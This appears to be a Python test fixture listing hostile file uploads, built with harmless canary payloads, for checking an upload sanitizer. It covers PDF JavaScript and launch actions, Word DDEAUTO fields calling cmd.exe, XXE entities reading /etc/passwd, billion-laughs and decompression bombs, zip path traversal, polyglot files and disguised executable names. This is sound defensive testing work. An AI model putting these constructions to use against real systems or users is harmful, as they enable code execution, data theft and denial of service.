"""The catalog of hostile uploads: each family gives named files. ``canary`` is what must not be left in whatever is kept."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from typing import NamedTuple

from tests.factories import uploads as make

SCRIPT = "app.alert('CanaryScript')"
ACTION = f"<</S/JavaScript/JS({SCRIPT})>>"


class Hostile(NamedTuple):
    """``refused``: it must not be kept at all, however harmless it could be made."""

    case: str
    name: str
    data: bytes
    canary: bytes
    refused: bool = False


def pdf_scripts() -> Iterator[Hostile]:
    places = {
        "on opening": make.pdf(ACTION, catalog="/OpenAction 4 0 R"),
        "on opening, in place": make.pdf(catalog=f"/OpenAction{ACTION}"),
        "named in the document": make.pdf(ACTION, catalog="/Names<</JavaScript<</Names[(a)4 0 R]>>>>"),
        "before printing": make.pdf(ACTION, catalog="/AA<</WP 4 0 R>>"),
        "before closing": make.pdf(catalog=f"/AA<</WC{ACTION}>>"),
        "when a page opens": make.pdf(page=f"/AA<</O{ACTION}>>"),
        "when a page closes": make.pdf(ACTION, page="/AA<</C 4 0 R>>"),
        "behind a link": make.pdf(f"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A{ACTION}>>", page="/Annots[4 0 R]"),
        "behind a button": make.pdf(f"<</Type/Annot/Subtype/Widget/FT/Btn/T(b)/Rect[0 0 9 9]/A{ACTION}>>", page="/Annots[4 0 R]", catalog="/AcroForm<</Fields[4 0 R]>>"),
        "formatting a field": make.pdf(f"<</Type/Annot/Subtype/Widget/FT/Tx/T(b)/Rect[0 0 9 9]/AA<</F{ACTION}>>>>", page="/Annots[4 0 R]", catalog="/AcroForm<</Fields[4 0 R]>>"),
        "next of another action": make.pdf(catalog=f"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next{ACTION}>>"),
        "next of many": make.pdf(catalog=f"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[{ACTION}{ACTION}]>>"),
        "in an outline": make.pdf("<</Type/Outlines/First 5 0 R/Last 5 0 R>>", f"<</Title(x)/Parent 4 0 R/A{ACTION}>>", catalog="/Outlines 4 0 R"),
        "in a stream": make.pdf(make.stream(SCRIPT.encode(), packed=True), "<</S/JavaScript/JS 4 0 R>>", catalog="/OpenAction 5 0 R"),
        "spelled with one escape": make.pdf(f"<</S/J#61vaScript/JS({SCRIPT})>>", catalog="/OpenAction 4 0 R"),
        "spelled in escapes": make.pdf(f"<</#53/#4a#61#76#61#53#63#72#69#70#74/#4A#53({SCRIPT})>>", catalog="/Open#41ction 4 0 R"),
        "in an object stream": make.pdf(make.object_stream(ACTION), catalog="/OpenAction 10 0 R"),
        "escaped in an object stream": make.pdf(make.object_stream(ACTION.replace("JavaScript", "Java#53cript")), catalog="/OpenAction 10 0 R"),
        "added later": make.updated(make.pdf(), ACTION, "<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>"),
        "in an object nothing names": make.pdf(ACTION),
        "with lines between": make.pdf(f"<<\r/S\n/JavaScript\t/JS\f({SCRIPT})>>", catalog="/OpenAction 4 0 R"),
        "with comments between": make.pdf(f"<</S%x\n/JavaScript%y\n/JS({SCRIPT})>>", catalog="/OpenAction 4 0 R"),
        "as a string of digits": make.pdf(f"<</S/JavaScript/JS<{SCRIPT.encode().hex()}>>>", catalog="/OpenAction 4 0 R"),
        "of a rendition": make.pdf(f"<</S/Rendition/OP 0/JS({SCRIPT})>>", catalog="/OpenAction 4 0 R"),
        "on a layer": make.pdf(f"<</S/SetOCGState/State[]/Next{ACTION}>>", catalog="/OpenAction 4 0 R"),
    }
    for case, data in places.items():
        yield Hostile(f"script {case}", "form.pdf", data, b"CanaryScript")
    hidden = "9 0 obj<</S/JavaScript/JS(CanaryScript)>>endobj"
    yield Hostile("script in an object inside a stream", "a.pdf", make.pdf(make.stream(hidden.encode())), b"/JavaScript")
    yield Hostile("script in an object inside a string", "a.pdf", make.pdf(f"<</T({hidden})>>".replace("(CanaryScript)", "<4343>")), b"/JavaScript", True)
    yield Hostile("script in an object inside a comment", "a.pdf", make.pdf().replace(b"1 0 obj", b"% " + hidden.encode() + b"\n1 0 obj"), b"/JavaScript", True)
    yield Hostile("script packed with LZW", "a.pdf", make.pdf(make.stream(b"\x80\x0b\x60\x50", "/Type/ObjStm/N 1/First 4/Filter/LZWDecode")), b"", True)
    yield Hostile("script packed as digits", "a.pdf", make.pdf(make.stream(ACTION.encode().hex().encode(), "/N 1/First 4/Filter/ASCIIHexDecode")), b"", True)
    yield Hostile("script packed twice", "a.pdf", make.pdf(make.stream(b"x", "/Type/ObjStm/N 1/First 4/Filter[/ASCII85Decode/FlateDecode]")), b"", True)
    yield Hostile("signed, with a script", "a.pdf", make.pdf("<</Type/Sig/ByteRange[0 1 2 3]/Contents<00>>>", catalog=f"/OpenAction{ACTION}"), b"", True)


def pdf_actions() -> Iterator[Hostile]:
    actions = {
        "starts a program": "<</S/Launch/F(CanaryFile.exe)>>",
        "starts a program of Windows": "<</S/Launch/Win<</F(CanaryFile.exe)/P(x)>>>>",
        "sends a form": "<</S/SubmitForm/F(http://canaryfile.example/)>>",
        "sends a form as HTML": "<</S/SubmitForm/F<</FS/URL/F(http://CanaryFile.example)>>/Flags 4>>",
        "fetches data": "<</S/ImportData/F(CanaryFile.fdf)>>",
        "goes to another file": "<</S/GoToR/F(CanaryFile.pdf)/D[0/Fit]>>",
        "goes to a share": "<</S/GoToR/F(\\\\\\\\host\\\\CanaryFile.pdf)/D[0/Fit]>>",
        "goes to an attachment": "<</S/GoToE/T<</R/C/N(CanaryFile)>>>>",
        "plays a sound": "<</S/Sound/Sound 4 0 R/T(CanaryFile)>>",
        "plays a film": "<</S/Movie/T(CanaryFile)>>",
        "runs rich media": "<</S/RichMediaExecute/TA 3 0 R/CMD<</C(CanaryFile)>>>>",
        "opens a script as an address": "<</S/URI/URI(javascript:CanaryFile)>>",
        "opens a script in octal": "<</S/URI/URI(\\152avascript:CanaryFile)>>",
        "opens a file as an address": "<</S/URI/URI(file:///c:/CanaryFile)>>",
        "opens data as an address": "<</S/URI/URI(data:text/html,CanaryFile)>>",
        "opens a share as an address": "<</S/URI/URI(\\\\\\\\host\\\\CanaryFile)>>",
        "opens a share without a scheme": "<</S/URI/URI(//host/CanaryFile)>>",
        "opens a script in digits": f"<</S/URI/URI<{b'javascript:CanaryFile'.hex()}>>>",
    }
    for case, action in actions.items():
        link = f"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A{action}>>"
        yield Hostile(f"a link {case}", "a.pdf", make.pdf(link, page="/Annots[4 0 R]"), b"CanaryFile")
        yield Hostile(f"opening it {case}", "a.pdf", make.pdf(action.replace("3 0 R", "5 0 R"), catalog="/OpenAction 4 0 R"), b"CanaryFile")


def pdf_contents() -> Iterator[Hostile]:
    attached = make.stream(b"CanaryFile", "/Type/EmbeddedFile")
    spec = "<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>"
    yield Hostile("PDF with a file attached", "a.pdf", make.pdf(attached, spec, catalog="/Names<</EmbeddedFiles<</Names[(a)5 0 R]>>>>"), b"CanaryFile")
    yield Hostile("PDF with a file on a page", "a.pdf", make.pdf(attached, f"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS{spec}>>", page="/Annots[5 0 R]"), b"CanaryFile")
    yield Hostile("PDF with an associated file", "a.pdf", make.pdf(attached, spec, catalog="/AF[5 0 R]"), b"CanaryFile")
    yield Hostile("PDF portfolio", "a.pdf", make.pdf(attached, spec, catalog="/Collection<</View/D>>/Names<</EmbeddedFiles<</Names[(a)5 0 R]>>>>"), b"CanaryFile")
    yield Hostile("PDF with an older form", "a.pdf", make.pdf(make.stream(b"<xdp>CanaryFile</xdp>"), catalog="/AcroForm<</Fields[]/XFA 4 0 R>>"), b"/XFA")
    yield Hostile("PDF with an older form in parts", "a.pdf", make.pdf(make.stream(b"<xdp/>"), catalog="/AcroForm<</Fields[]/XFA[(a)4 0 R]>>"), b"/XFA")
    yield Hostile("PDF with rich media", "a.pdf", make.pdf("<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<</T(CanaryFile)>>>>", page="/Annots[4 0 R]"), b"CanaryFile")
    yield Hostile("PDF with a film on a page", "a.pdf", make.pdf("<</Type/Annot/Subtype/Movie/Rect[0 0 9 9]/Movie<</F(CanaryFile)>>>>", page="/Annots[4 0 R]"), b"CanaryFile")
    yield Hostile("PDF with a stream kept elsewhere", "a.pdf", make.pdf(make.stream(b"", "/F(http://h/CanaryFile)/FFilter/FlateDecode")), b"CanaryFile")
    yield Hostile("PDF with a password", "a.pdf", make.pdf("<</Filter/Standard/V 1/R 2/O()/U()/P 0>>", trailer="/Encrypt 4 0 R"), b"", True)
    yield Hostile("PDF cut off", "a.pdf", make.pdf()[:-40], b"", True)
    yield Hostile("PDF cut off early", "a.pdf", make.pdf()[:100], b"", True)
    yield Hostile("PDF without pages", "a.pdf", make.pdf().replace(b"/Pages", b"/Wages"), b"", True)
    yield Hostile("PDF whose table stands nowhere", "a.pdf", make.pdf().rpartition(b"startxref")[0] + b"startxref\n99999999\n%%EOF\n", b"", True)
    yield Hostile("PDF header alone", "a.pdf", b"%PDF-1.7\n", b"", True)
    yield Hostile("PDF whose stream never ends", "a.pdf", make.pdf(b"<</Length 5>>\nstream\nabc"), b"", True)
    yield Hostile("PDF that unpacks without end", "a.pdf", make.pdf(make.stream(bytes(80_000_000), "/Type/ObjStm/N 1/First 4", packed=True)), b"", True)
    yield Hostile("PDF whose object stream is damaged", "a.pdf", make.pdf(make.stream(b"nonsense", "/Type/ObjStm/N 1/First 4/Filter/FlateDecode")), b"", True)
    yield Hostile("PDF after a web page", "a.pdf", b"<html><script>CanaryFile</script>" + make.pdf(), b"", True)
    yield Hostile("PDF after a program", "a.pdf", b"MZ\x90\0" + make.pdf(), b"", True)
    yield Hostile("PDF before a web page", "a.pdf", make.pdf() + b"<html><script>CanaryFile</script>", b"CanaryFile")
    yield Hostile("PDF before an archive", "a.pdf", make.pdf() + make.archive({"CanaryFile.exe": "MZ"}), b"CanaryFile")
    zipped = make.archive({"CanaryFile.exe": "MZ"}, zipfile.ZIP_STORED)
    yield Hostile("PDF with an archive in its last stream", "a.pdf", make.pdf(make.stream(zipped)), b"", True)


def pictures() -> Iterator[Hostile]:
    jpeg, png = make.photo(), make.photo("PNG")
    for up in range(1, 9):
        yield Hostile(f"JPEG with place, turned {up}", "a.jpg", make.photo(exif=make.exif(up=up)), b"Canary")
    for form, name in (("PNG", "a.png"), ("WEBP", "a.webp")):
        yield Hostile(f"{form} with place", name, make.photo(form, exif=make.exif()), b"Canary")
        yield Hostile(f"{form} with place, turned", name, make.photo(form, exif=make.exif(up=6)), b"Canary")
        yield Hostile(f"{form} cut off", name, make.photo(form)[:-30], b"", True)
        yield Hostile(f"{form} with an archive after it", name, make.photo(form) + make.archive({"Canary": "x"}), b"Canary")
        yield Hostile(f"{form} with a script after it", name, make.photo(form) + b"<script>Canary()</script>", b"Canary")
    segments = {
        "XMP": (0xE1, b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>Canary</x:xmpmeta>"), "a comment": (0xFE, b"Canary"),
        "a script as comment": (0xFE, b"*/=alert('Canary')/*"), "a web page as comment": (0xFE, b"<html><script>Canary</script>"),
        "Photoshop's notes": (0xED, b"Photoshop 3.0\0Canary"), "another picture's list": (0xE2, b"MPF\0Canary"), "a maker's notes": (0xE5, b"Canary"),
        "FlashPix": (0xE2, b"FPXR\0Canary"), "PHP as comment": (0xFE, b"<?php system('Canary'); ?>"), "broken EXIF": (0xE1, b"Exif\0\0II*\0\xff\xff\xff\xffCanary"),
        "EXIF that points to itself": (0xE1, b"Exif\0\0MM\0*\0\0\0\x08\0\x01\x87\x69\0\x04\0\0\0\x01\0\0\0\x08\0\0\0\x08Canary"),
        "a thumbnail": (0xE0, b"JFXX\0\x10Canary"),
    }  # fmt: skip
    for case, (marker, body) in segments.items():
        yield Hostile(f"JPEG with {case}", "a.jpg", make.with_segments(jpeg, make.jpeg_segment(marker, body)), b"Canary")
    yield Hostile("JPEG with an archive after it", "a.jpg", jpeg + make.archive({"Canary": "x"}), b"Canary")
    yield Hostile("JPEG with a web page after it", "a.jpg", jpeg + b"<html>Canary", b"Canary")
    yield Hostile("JPEG with a second photo after it", "a.jpg", jpeg + make.photo(exif=make.exif()), b"Canary")
    yield Hostile("JPEG cut off", "a.jpg", jpeg[:-20], b"", True)
    yield Hostile("JPEG cut off in its head", "a.jpg", jpeg[:60], b"", True)
    yield Hostile("JPEG of three bytes", "a.jpg", b"\xff\xd8\xff", b"", True)
    yield Hostile("JPEG without a picture", "a.jpg", b"\xff\xd8\xff\xd9", b"", True)
    frame = jpeg.index(b"\xff\xc0") + 5
    for width, height in ((65_500, 65_500), (40_000, 10), (25_000, 20_000), (0, 48)):
        yield Hostile(f"JPEG of {width} by {height}", "a.jpg", jpeg[:frame] + struct.pack(">HH", height, width) + jpeg[frame + 4 :], b"", True)
    chunks = {"text": (b"tEXt", b"Comment\0Canary"), "packed text": (b"zTXt", b"Comment\0\0" + zlib.compress(b"Canary")), "unknown chunk": (b"caNa", b"Canary"),
        "XMP": (b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0<x>Canary</x>"), "a time": (b"tIME", b"Canary!"), "EXIF": (b"eXIf", b"MM\0*Canary")}  # fmt: skip
    for case, (name, body) in chunks.items():
        yield Hostile(f"PNG with {case}", "a.png", make.with_chunks(png, make.png_chunk(name, body)), body if name == b"zTXt" else b"Canary")
    for width, height in ((60_000, 60_000), (20_000, 25_000), (0, 9)):
        yield Hostile(f"PNG of {width} by {height}", "a.png", png[:8] + make.png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)) + png[33:], b"", True)
    small = make.png_chunk(b"IHDR", struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0))
    yield Hostile("PNG that unpacks without end", "a.png", png[:8] + small + make.png_chunk(b"IDAT", zlib.compress(bytes(60_000_000))) + make.png_chunk(b"IEND", b""), b"", True)
    yield Hostile("PNG whose colors unpack without end", "a.png", make.with_chunks(png, make.png_chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(60_000_000)))), b"", True)
    yield Hostile("PNG with a wrong check sum", "a.png", png[:40] + bytes([png[40] ^ 1]) + png[41:], b"", True)
    moving = make.with_chunks(png, make.png_chunk(b"acTL", struct.pack(">II", 9, 0)), make.png_chunk(b"fdAT", b"Canary"))
    yield Hostile("PNG that moves", "a.png", moving, b"Canary")
    webp = make.photo("WEBP")
    riff = struct.pack("<I", len(webp) - 8 + 16)
    yield Hostile("WebP that moves", "a.webp", b"RIFF" + riff + b"WEBPANIM\x08\0\0\0" + bytes(8) + webp[12:], b"", True)
    yield Hostile("WebP of 16 000 by 16 000", "a.webp", b"RIFF" + struct.pack("<I", len(webp) + 10) + b"WEBPVP8X\x0a\0\0\0\0\0\0\0\x7f\x3e\0\x7f\x3e\0" + webp[12:], b"", True)
    yield Hostile("film called HEIC", "a.heic", b"\0\0\0\x18ftypheic" + bytes(12) + b"\0\0\0\x08moov", b"", True)
    yield Hostile("HEIC without a picture", "a.heic", b"\0\0\0\x18ftypheic" + bytes(12), b"", True)


def word_documents() -> Iterator[Hostile]:
    field = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    for case, words in {
        "DDEAUTO": ['DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'], "DDE": ["DDE excel x"], "dde in small letters": [" dde excel x"],
        "DDE in pieces": ["DD", "", "EAU", "TO c:\\\\cmd"], "a text from elsewhere": ['INCLUDETEXT "http://h.example/x"'],
        "a picture from elsewhere": ['INCLUDEPICTURE "http://h.example/x"'], "a database": ["DATABASE \\d c:\\x"], "a link to a program": ["LINK Excel.Sheet c:\\x"],
        "a macro button": ["MACROBUTTON Run x"], "DDE by numbers": ["QUOTE 68 68 69 65 85 84 79"],
    }.items():  # fmt: skip
        pieces = "".join(f"<w:r><w:instrText>{one.replace('"', '&quot;')}</w:instrText></w:r>" for one in words)
        yield Hostile(f"Word with {case}", "a.docx", make.word(field.format(pieces)), b"", True)
    yield Hostile("Word with DDE in a simple field", "a.docx", make.word('<w:p><w:fldSimple w:instr="DDEAUTO x"/></w:p>'), b"", True)
    yield Hostile("Word with an object", "a.docx", make.word("<w:p><w:r><w:object/></w:r></w:p>"), b"", True)
    for kind, target in {
        "image": "http://h.example/x.png", "attachedTemplate": "http://h.example/x.dotm", "oleObject": "file:///c:/x", "frame": "http://h.example", "subDocument": "x.docx",
        "video": "https://h.example", "externalLinkPath": "file:///x",
    }.items():  # fmt: skip
        yield Hostile(f"Word that fetches ({kind})", "a.docx", make.word(relations=make.relation(kind, target, outside=True)), b"", True)
    for target in ("javascript:alert(1)", "file:///etc/passwd", "\\\\host\\share", "java\tscript:alert(1)".replace("\t", "&#9;"), "ms-word:ofe|u|http://h", "//host/x"):
        yield Hostile(f"Word with a link to {target}", "a.docx", make.word(relations=make.relation("hyperlink", target, outside=True)), b"", True)
    yield Hostile("Word that fetches without saying so", "a.docx", make.word(relations=make.relation("image", "http://h.example/x.png")), b"", True)
    for part in ("word/vbaProject.bin", "word/VBAPROJECT.BIN", "word/vbaData.xml", "customUI/customUI.xml", "word/embeddings/oleObject1.bin", "word/activeX/activeX1.xml",
        "word/embeddings/sheet.xlsx", "word/afchunk.mht", "run.exe", "word/x.js", "word/media/x.html", "a.zip", "word/media/a.swf"):  # fmt: skip
        yield Hostile(f"Word holding {part}", "a.docx", make.word(more={part: "x"}), b"", True)
    macros = "application/vnd.ms-word.document.macroEnabled.main+xml"
    yield Hostile("Word with macros under a false name", "a.docx", make.word(main=macros), b"", True)
    yield Hostile("Word with macros", "a.docm", make.word(main=macros), b"", True)
    yield Hostile("Word called a macro document", "a.docm", make.word(), b"", True)
    template = make.relation("attachedTemplate", "http://h.example/Canary.dotm", outside=True)
    settings = {"word/_rels/settings.xml.rels": f"<Relationships>{template}</Relationships>", "word/settings.xml": f'<w:settings {make.W}><w:attachedTemplate r:id="rId9"/></w:settings>'}
    yield Hostile("Word with a template from elsewhere", "a.docx", make.word(more=settings), b"attachedTemplate")


def xml_in_documents() -> Iterator[Hostile]:
    billion = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    heads = {
        "XXE of a file": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "XXE of a page": '<!DOCTYPE a [<!ENTITY x SYSTEM "http://127.0.0.1/x">]>',
        "parameter entity": '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://127.0.0.1/x"> %x;]>', "billion laughs": f'<!DOCTYPE a [<!ENTITY a0 "ha">{billion}]>',
        "quadratic entity": f'<!DOCTYPE a [<!ENTITY a "{"x" * 50_000}">]>', "external DTD": '<!DOCTYPE a SYSTEM "http://127.0.0.1/x.dtd">', "empty document type": "<!DOCTYPE a>",
    }  # fmt: skip
    for case, head in heads.items():
        yield Hostile(f"Word with {case}", "a.docx", make.word(more={"word/document.xml": f"{head}<w:document {make.W}>&a9;</w:document>"}), b"", True)
        yield Hostile(f"ODT with {case}", "a.odt", make.odt(more={"content.xml": f"{head}<a/>"}), b"", True)
    yield Hostile("Word nested without end", "a.docx", make.word("<w:p>" * 50_000), b"", True)
    yield Hostile("Word that breaks off", "a.docx", make.word("<w:p>"), b"", True)
    yield Hostile("Word in an unknown encoding", "a.docx", make.word(more={"word/document.xml": '<?xml version="1.0" encoding="utf-7"?><a/>'}), b"", True)


def packages() -> Iterator[Hostile]:
    link = zipfile.ZipInfo("word/link.xml")
    link.external_attr = 0o120777 << 16
    for case, part in {"a link": link, "a way up": "../../evil.xml", "a way up in the middle": "word/../../evil.xml", "a whole path": "/etc/evil.xml", "a drive": "C:/evil.xml"}.items():
        yield Hostile(f"Word holding {case}", "a.docx", make.archive([*make.word_parts().items(), (part, "x")]), b"", True)
    whole = make.word()
    yield Hostile("Word that unpacks without end", "a.docx", make.word(more={"word/media/a.png": bytes(39_000_000)}), b"", True)
    yield Hostile("Word of too many parts", "a.docx", make.word(more={f"word/{n}.xml": "<a/>" for n in range(3_001)}), b"", True)
    yield Hostile("Word cut off", "a.docx", whole[:-60], b"", True)
    yield Hostile("Word after a script", "a.docx", b"#!/bin/sh\n" + whole, b"", True)
    yield Hostile("Word before a web page", "a.docx", whole + b"<html>", b"", True)
    yield Hostile("Word with a remark for archives", "a.docx", whole[:-2] + b"\x05\0<html", b"", True)
    damaged = bytearray(whole)
    damaged[whole.index(b"word/document.xml") + 30] ^= 0xFF
    yield Hostile("Word that is damaged", "a.docx", bytes(damaged), b"", True)
    locked = bytearray(whole)
    locked[whole.index(b"PK\x01\x02") + 8] |= 1
    yield Hostile("Word with a password of the archive", "a.docx", bytes(locked), b"", True)
    yield Hostile("Word twice the same part", "a.docx", make.archive([*make.word_parts().items(), ("WORD/document.xml", "<a/>")]), b"", True)
    yield Hostile("Word packed unusually", "a.docx", make.archive(make.word_parts(), zipfile.ZIP_BZIP2), b"", True)
    yield Hostile("Word locked by Office", "a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000), b"", True)
    for case, body in {
        "fetches a picture": '<draw:image xlink:href="http://h.example/x.png"/>', "has an object": "<draw:object/>", "runs a script": "<script:event-listener/>",
        "starts a program": "<text:dde-connection/>", "links to a script": '<text:a xlink:href="javascript:x"/>', "links to a file": '<text:a xlink:href="file:///x"/>',
        "has a frame": '<draw:floating-frame xlink:href="http://h.example"/>', "has a plug-in": "<draw:plugin/>",
    }.items():  # fmt: skip
        yield Hostile(f"ODT that {case}", "a.odt", make.odt(body), b"", True)
    for part in ("Basic/Standard/script-lb.xml", "Scripts/python/x.py", "Object 1/content.xml", "run.exe"):
        yield Hostile(f"ODT holding {part}", "a.odt", make.odt(more={part: "<a/>"}), b"", True)
    yield Hostile("ODT with a password", "a.odt", make.odt(more={"META-INF/manifest.xml": '<m:m xmlns:m="urn:m"><m:encryption-data/></m:m>'}), b"", True)
    for case, more in {
        "calls a program": {"xl/worksheets/s.xml": "<a><f>cmd|'/c calc'!A0</f></a>"}, "fetches a page": {"xl/worksheets/s.xml": '<a><f>WEBSERVICE("http://h.example")</f></a>'},
        "has an old macro": {"xl/macrosheets/sheet1.xml": "<a/>"}, "links to a table elsewhere": {"xl/externalLinks/externalLink1.xml": "<a/>"},
        "asks a database": {"xl/connections.xml": "<a/>"}, "registers a function": {"xl/workbook2.xml": "<a><definedName>REGISTER(1)</definedName></a>"},
    }.items():  # fmt: skip
        sheet = {"xl/workbook.xml": "<a/>", "[Content_Types].xml": '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>'}
        yield Hostile(f"Excel that {case}", "a.xlsx", make.archive({**sheet, **more}), b"", True)


def types_and_names() -> Iterator[Hostile]:
    for case, name, data in (
        ("program of Windows", "cv.pdf", b"MZ" + bytes(60)), ("program of Linux", "cv.pdf", b"\x7fELF" + bytes(60)), ("program of a Mac", "cv.jpg", b"\xcf\xfa\xed\xfe" + bytes(60)),
        ("shell script", "cv.txt", b"#!/bin/sh\nrm x"), ("web page", "cv.txt", b"<!DOCTYPE html><script>x</script>"), ("web page after spaces", "cv.txt", b"  \n\t<HTML>"),
        ("web page in UTF-16", "cv.txt", "<html><script>".encode("utf-16")), ("web page after a remark", "cv.txt", b"<!-- x --><script>x</script>"), ("drawing", "cv.png", b"<svg onload=x>"),
        ("drawing after an XML head", "cv.txt", b'<?xml version="1.0"?><svg xmlns="x"/>'), ("PHP", "cv.txt", b"<?php system(1);"), ("archive", "cv.docx", make.archive({"a.txt": "x"})),
        ("empty archive", "cv.zip", make.archive({})), ("RAR", "cv.pdf", b"Rar!\x1a\x07\0" + bytes(20)), ("7z", "cv.pdf", b"7z\xbc\xaf\x27\x1c" + bytes(20)), ("gzip", "cv.gz", b"\x1f\x8b\x08\0" + bytes(20)),
        ("tar", "cv.tar", b"a".ljust(257, b"\0") + b"ustar" + bytes(250)), ("old Word", "cv.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)), ("rich text", "cv.rtf", b"{\\rtf1 {\\object}}"),
        ("GIF with a script", "cv.gif", b"GIF89a/*" + bytes(20) + b"*/=alert(1)"), ("TIFF", "cv.tif", b"II*\0" + bytes(60)), ("PostScript", "cv.ps", b"%!PS-Adobe-3.0\n(x) run"),
        ("film", "cv.mp4", b"\0\0\0\x18ftypmp42" + bytes(12)), ("sound", "cv.mp3", b"ID3\x04" + bytes(60)), ("Flash", "cv.pdf", b"CWS\x09" + bytes(60)), ("Java class", "cv.pdf", b"\xca\xfe\xba\xbe" + bytes(20)),
        ("shortcut", "cv.pdf", b"L\0\0\0\x01\x14\x02\0" + bytes(60)), ("web shortcut", "cv.txt", b"[InternetShortcut]\nURL=file:///x"), ("database", "cv.txt", b"SQLite format 3\0" + bytes(60)),
        ("e-mail", "cv.txt", b"MIME-Version: 1.0\nContent-Type: text/html"), ("disk image", "cv.iso", bytes(0x8001) + b"CD001" + bytes(20)), ("nothing", "cv.pdf", b""), ("one byte", "cv.pdf", b"\0"),
        ("noise", "cv.pdf", bytes(range(256)) * 4), ("text with NUL", "cv.txt", b"abc\0def"), ("text with an escape", "cv.txt", b"abc\x1b[2Jdef"), ("text in Latin 1", "cv.txt", "é".encode("latin-1") * 3 + b"abcabcabcabcabc"),
        ("text in UTF-32", "cv.txt", "abc".encode("utf-32")), ("late NUL", "cv.txt", b"a" * 150_000 + b"\0"), ("too large", "cv.txt", b"a" * 20_000_001),
        ("XML", "cv.xml", b'<?xml version="1.0"?><a/>'),
    ):  # fmt: skip
        yield Hostile(f"{case} as {name}", name, data, b"", True)
    for name in ("cv.exe", "cv.pdf.exe", "cv.pdf .exe", "cv.html", "cv.jpg", "cv.docx", "cv\u202efdp.exe", "cv.exe\0", "cv.js", "cv.svg", "cv.PHP", "cv.exe.", "a/../cv.bat"):
        yield Hostile(f"PDF called {name!a}", name, make.pdf(), b"", True)


FAMILIES = (pdf_scripts, pdf_actions, pdf_contents, pictures, word_documents, xml_in_documents, packages, types_and_names)


def stream_of_zeros(size: int) -> io.BytesIO:
    """A file that would be larger than any memory, read piece by piece."""

    class Zeros(io.BytesIO):
        given = 0

        def read(self, most: int | None = -1) -> bytes:
            piece = bytes(min(most if most is not None and most > 0 else 65_536, size - self.given))
            self.given += len(piece)
            return piece

    return Zeros()
